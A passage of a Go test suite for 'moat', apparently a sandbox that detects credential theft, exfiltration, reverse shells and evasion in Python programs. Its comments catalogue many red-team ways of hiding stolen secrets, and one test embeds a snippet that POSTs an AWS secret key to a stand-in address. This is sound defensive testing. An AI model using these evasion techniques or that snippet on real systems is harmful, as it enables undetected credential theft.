		noOutlived(t, run(t, b, filepath.Join("testdata", "benign", "tracker_late.py"), nil))
	})
}

// daemonStopped: the program starts a daemon and sleeps past the
// timeout; moat's stop, not the program's end, kills the daemon, which is
// listed all the same.
func daemonStopped(t *testing.T, b moat.Backend) {
	t.Helper()
	daemonStoppedAfter(t, b, 10*time.Second)
}

// daemonStoppedAfter is daemonStopped with the run's timeout.
func daemonStoppedAfter(t *testing.T, b moat.Backend, timeout time.Duration) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "daemon_stopped.py"), func(s *moat.Spec) { s.Limits.Timeout = timeout })
	if res.Status != moat.StatusTimeout || !strings.Contains(res.Stdout, "daemon started") {
		dump(t, res)
		t.Fatalf("status %s, stdout %q: want a timeout after the daemon started", res.Status, res.Stdout)
	}
	wantDaemon(t, res, "daemon_stopped.py")
}

// daemonLimited: the program starts a daemon, then children of its own
// session past the pids limit; moat's stop at the limit, not the
// program's end, kills the daemon, which is listed all the same.
func daemonLimited(t *testing.T, b moat.Backend) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "daemon_limit.py"), func(s *moat.Spec) {
		s.Limits.Pids, s.Limits.Timeout = 64, 120*time.Second
	})
	if res.Status != moat.StatusPids || !strings.Contains(res.Stdout, "daemon started") {
		dump(t, res)
		t.Fatalf("status %s, stdout %q: want the pids limit after the daemon started", res.Status, res.Stdout)
	}
	wantDaemon(t, res, "daemon_limit.py")
}

// wantDaemon fails t unless res has the medium evasion finding of a
// daemon that outlived the program, naming its command line (script).
func wantDaemon(t *testing.T, res *moat.Result, script string) {
	t.Helper()
	for _, f := range res.Findings {
		if f.Category == moat.CategoryEvasion && f.Severity == moat.SeverityMedium && strings.Contains(f.Summary, "daemonized") &&
			strings.Contains(f.Summary, script) {
			return
		}
	}
	dump(t, res)
	t.Error("no medium evasion finding for the daemon that outlived the program")
}

// noOutlived fails t if the benign program with multiprocessing's
// resource tracker did not start it, or anything of it (or of moat's)
// was said to outlive the program.
func noOutlived(t *testing.T, res *moat.Result) {
	t.Helper()
	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "tracker True") {
		dump(t, res)
		t.Fatalf("status %s exit %d: the resource tracker did not start", res.Status, res.ExitCode)
	}
	for _, e := range res.Events {
		if e.Kind == moat.KindOutlived {
			dump(t, res)
			t.Errorf("outlived the program: pid %d %q %s", e.PID, e.Path, e.Detail)
		}
	}
	for _, f := range res.Findings {
		if f.Severity.Rank() > moat.SeverityLow.Rank() {
			dump(t, res)
			t.Errorf("benign program got %s %s: %s", f.Severity, f.Category, f.Summary)
		}
	}
}

// sinkholeBackends runs each on every backend with a sinkhole: native,
// docker, podman, gVisor direct and as Docker's runtime ("gvisor-image",
// registered with --network=host), as root for a container's.
func sinkholeBackends(t *testing.T, each func(t *testing.T, name string, b moat.Backend)) {
	for _, bk := range []struct {
		name string
		new  func() moat.Backend
	}{
		{"native", func() moat.Backend { return moattest.RequireBackend(t, "native") }},
		{"docker", func() moat.Backend { return docker.New(testImage(), "", "") }},
		{"podman", func() moat.Backend { return podman.New(testImage(), "") }},
		{"gvisor", func() moat.Backend { return &gvisor.Backend{} }},
		{"gvisor-image", func() moat.Backend { return docker.New(testImage(), docker.HostinetRuntime, "") }},
	} {
		t.Run(bk.name, func(t *testing.T) {
			moattest.RequireBackend(t, strings.TrimSuffix(bk.name, "-image"))
			if bk.name != "native" && os.Geteuid() != 0 {
				t.Skip("a container's sinkhole needs moat as root")
			}
			b := bk.new()
			if bk.name == "gvisor-image" {
				moattest.RequireBackend(t, "docker")
				if err := moat.Check(context.Background(), b); err != nil && !moattest.Required("gvisor") {
					t.Skip(err)
				}
			}
			each(t, bk.name, b)
		})
	}
}

func corpusSinkhole(t *testing.T, b moat.Backend) {
	for _, f := range []string{"steal_aws_post.py", "dns_exfil.py"} {
		t.Run(strings.TrimSuffix(f, ".py"), func(t *testing.T) {
			res := run(t, b, filepath.Join("testdata", "corpus", f), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
			ok := false
			for _, fd := range res.Findings {
				for _, e := range fd.Evidence {
					ok = ok || (fd.Category == "exfiltration" && fd.Severity == "critical" && e.Source == "network")
				}
			}
			if !ok {
				dump(t, res)
				t.Error("no critical exfiltration finding with network evidence")
			}
		})
	}
}

// TestRequestsNetrc: the real requests (Debian's python3-requests) sends
// ~/.netrc's login and password as Basic auth to the host the entry names,
// for its own documented auth: under the sinkhole that is a low finding
// that says so, not exfiltration, on every backend whose interpreter has
// requests.
func TestRequestsNetrc(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	py := "/usr/bin/python3"
	moattest.RequirePython(t, py, "requests")
	res := run(t, b, filepath.Join("testdata", "benign", "netrc_requests.py"), func(s *moat.Spec) {
		s.Python = py
		s.Network = moat.NetworkSinkhole
	})
	sent := false
	for _, f := range res.Findings {
		if f.Category == moat.CategoryExfiltration && f.Severity.Rank() > moat.SeverityLow.Rank() {
			dump(t, res)
			t.Errorf("requests' own netrc auth is %s exfiltration: %s", f.Severity, f.Summary)
		}
		sent = sent || (f.Category == moat.CategoryExfiltration && strings.Contains(f.Summary, "the host its ~/.netrc entry is for"))
	}
	if !sent || !strings.Contains(res.Stdout, " 200") {
		dump(t, res)
		t.Errorf("no low finding of the netrc password sent to its host (%v), or the request did not reach the sink", sent)
	}
}

// TestHookHTTPClient: what http.client sends (requests and urllib3 send
// through it) is in the hook's events whole, in parts, past the first KiB
// of a long body: where no sink reads the flow, or reads it encrypted,
// the hook still has it.
func TestHookHTTPClient(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	res := run(t, b, filepath.Join("testdata", "corpus", "long_body.py"), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
	var parts int
	for _, e := range res.Events {
		if e.Source == moat.SourceAudit && e.Kind == moat.KindHTTP && strings.HasPrefix(e.Detail, "sent (at ") {
			parts++
		}
	}
	var hookOnly bool
	for _, f := range res.Findings {
		if f.Category != moat.CategoryExfiltration || f.Severity != moat.SeverityCritical || !strings.Contains(f.Summary, "put in a network request") {
			continue
		}
		hookOnly = true
		for _, e := range f.Evidence {
			hookOnly = hookOnly && e.Source == moat.SourceAudit
		}
	}
	if parts < 8 || !hookOnly {
		dump(t, res)
		t.Errorf("%d parts of http.client's send (want 8 or more), a critical exfiltration finding on the hook's evidence %v", parts, hookOnly)
	}
}

// TestCorpusAzureMetadata: the sink answers Azure's instance metadata
// service (the header "Metadata: true") with a fake managed identity
// token: taking it is credential access, sending it on exfiltration, both
// on the sink's evidence.
func TestCorpusAzureMetadata(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "azure_imds.py"), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
		if !strings.Contains(res.Stdout, "token Bearer") || !strings.Contains(res.Stdout, "vm Standard_") {
			dump(t, res)
			t.Fatalf("the metadata service did not answer as Azure's")
		}
		var took, sent bool
		for _, f := range res.Findings {
			took = took || f.Category == moat.CategoryCredentialAccess && f.Severity == moat.SeverityHigh && strings.Contains(f.Summary, "azure-metadata-token")
			sent = sent || f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical &&
				strings.Contains(f.Summary, "azure-metadata-token sent over the network") && !strings.Contains(f.Summary, "audit hook")
		}
		if !took || !sent {
			dump(t, res)
			t.Errorf("credential access %v, exfiltration %v: want both", took, sent)
		}
	})
}

// TestCorpusKeepAlive: every request of a connection to the sink is read
// and recorded, not only the first: a secret in a later request (kept
// alive, or pipelined inside TLS) is exfiltration on the sink's evidence.
func TestCorpusKeepAlive(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "keepalive_exfil.py"), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
		var plain, tls bool
		for _, e := range res.Events {
			if e.Source != moat.SourceNetwork || e.Kind != moat.KindConnect {
				continue
			}
			plain = plain || strings.Contains(e.Detail, "http POST host=updates.cdn-metrics.example (request 2 on the connection)")
			tls = tls || strings.Contains(e.Detail, "decrypted https PUT host=api.cdn-metrics.example (request 3 on the connection)")
		}
		var sent bool
		for _, f := range res.Findings {
			own := false
			for _, e := range f.Evidence {
				own = own || e.Source == moat.SourceNetwork
			}
			// the reversed secret is only in the second request
			sent = sent || f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical && own && strings.Contains(f.Summary, "revers")
		}
		if !plain || !tls || !sent || !strings.Contains(res.Stdout, "tls answers 3") {
			dump(t, res)
			t.Errorf("second request recorded %v, third TLS request %v, exfiltration on the sink's evidence %v", plain, tls, sent)
		}
	})
}

// TestCorpusHiddenSecrets: a secret hidden by encodings, padding and
// splitting is found in every channel it took, each on moat's own
// evidence (network sink, output, fs diff).
func TestCorpusHiddenSecrets(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "hidden_exfil.py"), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
		wantExfil(t, res, func(f moat.Finding) bool {
			for _, e := range f.Evidence {
				if e.Source != moat.SourceAudit {
					return true
				}
			}
			return false
		},
			"split over DNS lookups below evil-cdn.example (hex, reversed, xor 0x5a)",
			"sent over the network",
			"printed to stdout",
			"split over the names of files in /tmp/")
	})
}

// TestCorpusEvasiveSecrets: a secret taken from the environment (no
// read to witness) and sent past the matcher's encodings and the event
// budgets (red team, issue 12: each channel of evasive_exfil.py gave
// nothing above low) is found in every channel, on moat's own evidence.
func TestCorpusEvasiveSecrets(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "evasive_exfil.py",
		"printed to stdout (base85, xor 0x1337)",
		"split over DNS lookups of several domains (rot13, base32)",
		"sent over the network (hex)",       // past the budget
		"sent over the network (raw)",       // behind binary padding
		"written to /tmp/zz-cache (base64)", // past the budget
		"written to /tmp/q/ (split over the names of its files, in the order of")
}

// TestCorpusLoaderExec: a dropped program run through the dynamic loader
// (ld.so maps it; the kernel sees an exec of the loader alone) is a high
// execution finding naming the program (red team, session 18: it was a
// low "executed programs: ld-linux-x86-64.so.2").
func TestCorpusLoaderExec(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "loader_exec.py"), nil)
		if !strings.Contains(res.Stdout, "stage two ran") {
			dump(t, res)
			t.Fatalf("the program did not run through the loader: %q", res.Stdout)
		}
		wantNamed(t, res, moat.CategoryExecution, "dynamic loader", "/tmp/.cache-helper")
	})
}

// TestCorpusPreload: a library the run wrote, mapped into a program by
// LD_PRELOAD (no exec of its own), is a high execution finding naming
// it: the kernel's side reads the exec's environment (native's and the
// containers' seccomp supervisors from the caller's memory, gVisor from
// the Sentry's trace; red team, session 18: nothing named it before).
func TestCorpusPreload(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "preload_exec.py"), nil)
		if !strings.Contains(res.Stdout, "preloaded") {
			dump(t, res)
			t.Fatalf("the program did not run with the library: %q", res.Stdout)
		}
		wantNamed(t, res, moat.CategoryExecution, "through LD_PRELOAD", "/tmp/.libcache.so")
	})
}

// TestCorpusPreloadBuried: the same library behind 20,000 environment
// variables, more than the kernel's side reads of an exec's environment
// (native's and the containers' supervisors 8,192; gVisor's trace line
// 64 KiB): the exec is a high finding that names the library where it
// was read (gVisor's trace held it) or says the environment was not read
// to its end (red team, session 19: nothing before on native, docker and
// podman).
func TestCorpusPreloadBuried(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "preload_buried.py"), nil)
		if !strings.Contains(res.Stdout, "preloaded") {
			dump(t, res)
			t.Fatalf("the program did not run with the library: %q", res.Stdout)
		}
		for _, f := range res.Findings {
			if f.Category == moat.CategoryExecution && f.Severity.Rank() >= moat.SeverityHigh.Rank() &&
				(strings.Contains(f.Summary, "with an environment longer than moat reads") || strings.Contains(f.Summary, "through LD_PRELOAD (no exec of its own): /tmp/.libcache.so")) {
				return
			}
		}
		dump(t, res)
		t.Error("no high execution finding names the library or the environment not read")
	})
}

// TestCorpusSymlinkSecret: a secret in the targets of symbolic links
// made through libc (no audit event) is found in the walk's link targets,
// on every backend's walk (red team, session 18: nothing before).
func TestCorpusSymlinkSecret(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "symlink_secret.py"), nil)
		if !strings.Contains(res.Stdout, "linked") {
			dump(t, res)
			t.Fatalf("the program did not link: %q %q", res.Stdout, res.Stderr)
		}
		wantExfil(t, res, ownEvidence,
			"/tmp/.fontconfig-cache (in its link target (raw))",
			"/work/.lock (in its link target (base32))")
	})
}

// TestCorpusEvasiveCodes: a secret written as its bytes' numbers
// (a list of char codes, hex with colons, HTML entities, one big decimal
// number, octal escapes) or as ROT47 or base58 (red team, session 18:
// none was found before) is found in every channel, on moat's own
// evidence.
func TestCorpusEvasiveCodes(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "evasive_codes.py",
		"printed to stdout (decimal char codes)",
		"printed to stderr (hex char codes)",
		"sent over the network (decimal char codes)",
		"written to /tmp/seq.txt (decimal number)",
		"written to /tmp/o.txt (octal char codes)",
		"written to /tmp/r.txt (rot47)",
		"printed to stdout (base58)")
}

// TestCorpusEvasiveUnicode: a secret as zero-width characters a bit
// each, as tag characters, as mathematical bold letters, as base64 of
// UTF-16LE (PowerShell's -EncodedCommand), in a zip's deflated entry, in
// Morse code and as base100's emoji (red team, session 22: none was
// found before).
func TestCorpusEvasiveUnicode(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "evasive_unicode.py",
		"printed to stdout (zero-width bits",
		"printed to stderr (tag characters)",
		"sent over the network (escaped, unicode letters)",
		"written to /tmp/ps.txt (base64, utf-16)",
		"written to /work/cache.zip (zip)",
		"written to /tmp/m.txt (morse, case-changed)",
		"written to /tmp/b100.txt (code points, add 0xf7)")
}

// TestCorpusDNSCase: a secret in the case of the letters of the names
// looked up (red team, session 22: a low "looked up names" before).
func TestCorpusDNSCase(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "dns_case.py", "split over DNS lookups below cdn-static.net (letter case bits")
}

// TestCorpusOOBExfil: a secret sent a byte an urgent send (MSG_OOB)
// between bytes of padding (red team, session 22: the sink never read
// urgent data; a medium network finding before).
// gVisor's network stack refuses MSG_OOB (EINVAL): nothing is sent, as
// the gvisor case checks.
func TestCorpusOOBExfil(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "oob_exfil.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Limits.Timeout = 60 * time.Second
		})
		if _, ok := b.(*gvisor.Backend); ok {
			if strings.Count(res.Stderr, "OSError: [Errno 22] Invalid argument") != 2 {
				dump(t, res)
				t.Error("gVisor sent urgent data: want MSG_OOB refused with EINVAL")
			}
			return
		}
		wantExfil(t, res, ownEvidence, "sent over the network (")
	})
}

// TestCorpusSizeExfil: a secret in the sizes of the datagrams to one
// address, their content random (red team, session 22: a medium network
// finding before). The sink alone records each datagram's size.
func TestCorpusSizeExfil(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "size_exfil.py", "encoded in the sizes of the datagrams to 203.0.113.9")
}

// TestCorpusWebSocketExfil: a secret three bytes a WebSocket frame, each
// masked with its own key (red team, session 22: a medium network
// finding before).
func TestCorpusWebSocketExfil(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "ws_exfil.py", "sent over the network (escaped, websocket frames)")
}

// TestCorpusDNSExtra: a secret in a TXT record of a query's additional
// section (red team, session 22: the sink kept the question alone, a low
// "looked up names" before).
func TestCorpusDNSExtra(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "dns_extra.py", "sent over the network (escaped, xor 0x21")
}

// TestCorpusHTTP2Exfil: a secret in a Huffman-coded HPACK header of an
// h2c request with prior knowledge, and in the DATA of an HTTP/2 request
// inside TLS from a client that offers ALPN "h2" alone and waits for the
// server's SETTINGS and 100-continue (red team, session 22's list:
// medium network findings before; the sink kept the frames undecoded,
// did not answer, and refused the TLS handshake). Each client gets its
// answer.
func TestCorpusHTTP2Exfil(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		for _, file := range []string{"h2c_exfil.py", "h2_exfil.py"} {
			res := run(t, b, filepath.Join("testdata", "corpus", file), func(s *moat.Spec) {
				s.Network = moat.NetworkSinkhole
				s.Limits.Timeout = 60 * time.Second
			})
			wantExfil(t, res, ownEvidence, "sent over the network (raw)")
			if !strings.Contains(res.Stdout, "answered") {
				t.Errorf("%s: the client got no answer: %q", file, res.Stdout)
			}
		}
	})
}

// TestCorpusDNSEDNS: a secret 20 bytes an EDNS option, a query each
// (red team, session 22's list: 48 bytes past a question went
// unrecorded; a low "looked up names" before).
func TestCorpusDNSEDNS(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "dns_edns.py", "split over the records of DNS queries below cdn-assets.net")
}

// TestCorpusDNSQType: a secret in the types of DNS queries, a byte a
// query for a name of its own (red team, session 22's list: a low
// "looked up names" before).
func TestCorpusDNSQType(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "dns_qtype.py", "encoded in the types of the DNS queries below img-cdn.net")
}

// TestCorpusSubstitution: a secret in base64 of an alphabet of the
// program's own, under Atbash, and reversed under a keyword alphabet of
// every printable character (red team, session 22's list: nothing found
// before).
func TestCorpusSubstitution(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "subst_exfil.py",
		"sent over the network (base64 (own alphabet))",
		"written to /tmp/p.txt (substitution)",
		"printed to stdout (reversed, substitution)")
}

// TestCorpusANSIExfil: a secret printed with ANSI resets or zero-width
// characters between its characters (red team, session 22: nothing
// before).
func TestCorpusANSIExfil(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "ansi_exfil.py", "printed to stdout (as shown)", "printed to stderr (as shown)")
}

// TestCorpusGroupedExfil: a secret's base64 or hex cut into short groups
// parted by separators (red team, session 22: nothing before).
func TestCorpusGroupedExfil(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "grouped_exfil.py", "printed to stdout (groups joined, base64)", "printed to stderr (groups joined, hex)",
		"written to /tmp/uuid.txt (groups joined, hex)")
}

// ownEvidence: a finding that rests on moat's own evidence, not on the
// audit hook's alone (the program's claim).
func ownEvidence(f moat.Finding) bool { return !strings.Contains(f.Summary, "seen only by") }

// wantEvasive runs corpus/file under the sinkhole on moat's own backends
// and wants each of wants named by a critical exfiltration finding that
// rests on moat's own evidence (not the hook's alone).
func wantEvasive(t *testing.T, file string, wants ...string) {
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", file), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Limits.Timeout = 60 * time.Second
		})
		wantExfil(t, res, ownEvidence, wants...)
	})
}

// TestCorpusEvasiveShapes: a secret as a Caesar shift of its letters
// (3, and 11 reversed), with a byte of noise after every four, and
// uuencoded (red team, session 18: each in the "not found" list; found
// since session 19), on moat's own backends.
func TestCorpusEvasiveShapes(t *testing.T) {
	t.Parallel()
	wantEvasive(t, "evasive_shapes.py",
		"printed to stdout (rot3)",
		"printed to stderr (uuencode)",
		"sent over the network (reversed, rot11)")
}

// TestCorpusInterpFloodShell: `python -i` relayed to a connection after
// 450 execs that fill the exec reserve is still a critical reverse shell:
// an interpreter that reads its code from stdin is kept past the reserve
// (kbudget.Interest; session 19: on docker its exec was dropped and the
// finding rested on the audit hook alone, the program's own claim).
func TestCorpusInterpFloodShell(t *testing.T) {
	t.Parallel()
	onSinkBackends(t, func(t *testing.T, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "interp_flood_shell.py"), func(s *moat.Spec) {
			userland(s) // /bin/true
			s.Network = moat.NetworkSinkhole
			s.Limits.Timeout = 3 * time.Minute
		})
		if !strings.Contains(res.Stdout, "relayed") {
			dump(t, res)
			t.Fatalf("the program did not run to its end: %q", res.Stdout)
		}
		for _, f := range res.Findings {
			if f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, "reverse shell") &&
				!strings.Contains(f.Summary, "seen only by") {
				return
			}
		}
		dump(t, res)
		t.Error("no critical reverse shell finding on the kernel's evidence (the hook's alone is the program's claim)")
	})
}

// TestCorpusEvasiveKeys: the secret XOR-ed with a key of 24 bytes, in
// xz and .lzma (Python's lzma module), added with a key that rises by one
// a byte (red team, issue 12): none of them was found before.
func TestCorpusEvasiveKeys(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	res := run(t, b, filepath.Join("testdata", "corpus", "evasive_keys.py"), func(s *moat.Spec) {
		s.Network = moat.NetworkSinkhole
		s.Limits.Timeout = 60 * time.Second
	})
	want := map[string]bool{
		"sent over the network (|xor 0x":               false,
		"printed to stdout (base64, lzma)|":            false,
		"written to /tmp/state.xz (xz)|":               false,
		"printed to stderr (hex, add 0x|rising by 1 a": false,
	}
	for _, f := range res.Findings {
		if f.Category != moat.CategoryExfiltration || f.Severity != moat.SeverityCritical {
			continue
		}
		for w := range want {
			a, b, _ := strings.Cut(w, "|")
			if strings.Contains(f.Summary, a) && strings.Contains(f.Summary, b) {
				want[w] = true
			}
		}
	}
	for w, ok := range want {
		if !ok {
			dump(t, res)
			t.Errorf("no critical exfiltration finding %q", w)
		}
	}
}

// TestCorpusDestExfil: a secret carried by the addresses a program
// connects to, three bytes an address, no byte of it sent (red team,
// session 19: a medium network finding before).
func TestCorpusDestExfil(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	t.Run("none", func(t *testing.T) { wantDestExfil(t, b, moat.NetworkNone) })
	t.Run("sinkhole", func(t *testing.T) { wantDestExfil(t, b, moat.NetworkSinkhole) })
}

func wantDestExfil(t *testing.T, b moat.Backend, n moat.Network) {
	t.Helper()
	wantAWSKey(t, b, "dest_exfil.py", n, "encoded in the addresses connected to")
}

// wantAWSKey runs corpus/file under network n and wants a critical
// exfiltration finding of the planted AWS key whose summary says how.
func wantAWSKey(t *testing.T, b moat.Backend, file string, n moat.Network, how string) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", file), func(s *moat.Spec) {
		s.Network = n
		s.Limits.Timeout = time.Minute
	})
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical &&
			strings.Contains(f.Summary, "env-aws-secret-access-key") && strings.Contains(f.Summary, how)
	}) {
		dump(t, res)
		t.Errorf("no critical exfiltration finding of the AWS key %s", how)
	}
}

// TestCorpusPortExfil: secrets carried by the destination ports of the
// connects to one host, a byte a port (1000 + b, repeats too) and two
// bytes a port in either order, no byte sent (session 20: a medium network
// finding before, the hook saying each destination once and the kernel's
// budget keeping ten connects a host). Under --network none the connects
// fail and are seen all the same.
func TestCorpusPortExfil(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	t.Run("none", func(t *testing.T) { wantPortExfil(t, b, moat.NetworkNone) })
	t.Run("sinkhole", func(t *testing.T) { wantPortExfil(t, b, moat.NetworkSinkhole) })
}

// wantPortExfil runs port_exfil.py under network n and wants each of its
// four shapes found whole (mods change the spec further), and the kernel's witness to have kept the
// same connects as the hook, in the same order (a finding's evidence is
// its first events: the hook's).
func wantPortExfil(t *testing.T, b moat.Backend, n moat.Network, mods ...func(*moat.Spec)) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "port_exfil.py"), func(s *moat.Spec) {
		s.Network = n
		s.Limits.Timeout = 2 * time.Minute
		for _, m := range mods {
			m(s)
		}
	})
	for _, c := range [][3]string{
		{"env-github-token", "ports", "203.0.113.51"},
		{"env-aws-secret-access-key", "ports", "203.0.113.52"},
		{"env-aws-secret-access-key", "ports", "203.0.113.53"},
		{"env-github-token", "source ports", "203.0.113.54"},
	} {
		if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
			return f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical &&
				strings.Contains(f.Summary, c[0]) && strings.Contains(f.Summary, "encoded in the "+c[1]+" of the connections to "+c[2]+" (")
		}) {
			dump(t, res)
			t.Errorf("no critical exfiltration finding of %s in the %s of the connections to %s", c[0], c[1], c[2])
		}
		if c[1] != "ports" {
			continue // the source port: the hook's alone
		}
		ports := map[moat.Source][]string{}
		for _, e := range res.Events {
			if e.Kind == moat.KindConnect && strings.HasPrefix(e.Addr, c[2]+":") {
				ports[e.Source] = append(ports[e.Source], e.Addr)
			}
		}
		if len(ports[moat.SourceAudit]) < 20 || !slices.Equal(ports[moat.SourceAudit], ports[moat.SourceKernel]) {
			t.Errorf("connects to %s: the hook's %v, the kernel's %v; want 20 or more, the same", c[2], ports[moat.SourceAudit], ports[moat.SourceKernel])
		}
	}
}

// TestCorpusSplitKinds: a secret's first half in a DNS lookup, the rest
// in an HTTP body (red team, session 19: a medium network finding
// before).
func TestCorpusSplitKinds(t *testing.T) {
	t.Parallel()
	wantSplitKinds(t, moattest.RequireBackend(t, "native"))
}

func wantSplitKinds(t *testing.T, b moat.Backend) {
	t.Helper()
	wantAWSKey(t, b, "split_kinds.py", moat.NetworkSinkhole, "split over the run's lookups, flows and requests")
}

// TestCorpusFramedExfil: secrets split over flows and datagrams with a
// frame around each piece ("<n>:", "seq=<n>;d=<hex>"), out of order, hex
// wrapped in lines as xxd -p prints it, and a secret a byte in 8 through
// random noise (red team, session 24: a medium network finding before).
func TestCorpusFramedExfil(t *testing.T) {
	t.Parallel()
	wantCriticalExfil(t, moattest.RequireBackend(t, "native"), "framed_exfil.py", framedExfil)
}

// framedExfil is what framed_exfil.py sends: each secret, and how.
var framedExfil = [][2]string{
	{"env-aws-secret-access-key", "split over the flows to 203.0.113.71 (pieces)"},
	{"env-github-token", "split over the flows to 203.0.113.72 (pieces, hex)"},
	{"pypi-token", "sent over the network (escaped, hex)"},
	{"aws-secret-access-key", "sent over the network (escaped, every 8 bytes from"},
}

// wantCriticalExfil runs the corpus file under the sinkhole and wants a
// critical exfiltration finding of each secret whose summary says how.
func wantCriticalExfil(t *testing.T, b moat.Backend, file string, want [][2]string) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", file), func(s *moat.Spec) {
		s.Network = moat.NetworkSinkhole
		s.Limits.Timeout = time.Minute
	})
	for _, c := range want {
		if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
			return f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical &&
				strings.Contains(f.Summary, c[0]) && strings.Contains(f.Summary, c[1])
		}) {
			dump(t, res)
			t.Errorf("no critical exfiltration finding of %s %s", c[0], c[1])
		}
	}
}

// TestCorpusPadExfil: secrets XOR-ed with a one-time pad whose key is
// sent too, in one JSON body and over two datagrams (red team, session
// 24: a medium network finding before).
func TestCorpusPadExfil(t *testing.T) {
	t.Parallel()
	wantCriticalExfil(t, moattest.RequireBackend(t, "native"), "pad_exfil.py", padExfil)
}

// padExfil is what pad_exfil.py sends.
var padExfil = [][2]string{{"env-aws-secret-access-key", "one-time pad"}, {"env-github-token", "one-time pad"}}

// TestHookLongRequestBody: the hook keeps the start of a request body
// whose encoded line passes its one-write bound, rather than dropping the
// body whole (a stealer's JSON of files with long home paths lost its
// data, and the run's exfiltration finding with it).
func TestHookLongRequestBody(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	code := `import json, os, urllib.request
body = json.dumps({"key": os.environ["AWS_SECRET_ACCESS_KEY"], "pad": "\\\\\n\"" * 400}).encode()
try:
    urllib.request.urlopen(urllib.request.Request("http://203.0.113.7/c", data=body), timeout=3)
except Exception as e:
    print(e)
`
	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Limits: moat.Limits{Timeout: 20 * time.Second}})
	if err != nil {
		t.Fatal(err)
	}
	var data string
	for _, e := range res.Events {
		if e.Source == moat.SourceAudit && e.Kind == "http" && data == "" {
			data = e.Data // the first part
		}
	}
	if !strings.Contains(data, `{"key": "`) || !has(res.Findings, moat.CategoryExfiltration, moat.SeverityCritical) {
		dump(t, res)
		t.Errorf("the request's data %q, no critical exfiltration finding", data)
	}
}

// TestToolReads: wget reads ~/.netrc by itself for the host it fetches
// from; the kernel's witness of that read is no theft and no evasion
// (low), while the same read with no such tool run stays high.
func TestToolReads(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	res := run(t, b, filepath.Join("testdata", "benign", "tool_reads.py"), func(s *moat.Spec) {
		s.Python, s.Userland = "/usr/bin/python3", true
	})
	if !strings.Contains(res.Stdout, "wget True") {
		t.Skip("no wget in the sandbox (/usr/bin/python3's /usr)")
	}
	var low bool
	for _, f := range res.Findings {
		if (f.Category == moat.CategoryCredentialAccess || f.Category == moat.CategoryEvasion) && f.Severity.Rank() > moat.SeverityLow.Rank() {
			dump(t, res)
			t.Errorf("wget's own netrc read: %s %s: %s", f.Severity, f.Category, f.Summary)
		}
		low = low || f.Category == moat.CategoryCredentialAccess && strings.Contains(f.Summary, "wget reads it")
	}
	if !low {
		dump(t, res)
		t.Error("no low credential-access finding names wget's read")
	}
}

// TestDeepTree: a tree 2,100 levels deep in /work (past PATH_MAX) ends
// the run by itself, not at the timeout: the copy-out stops 256 levels
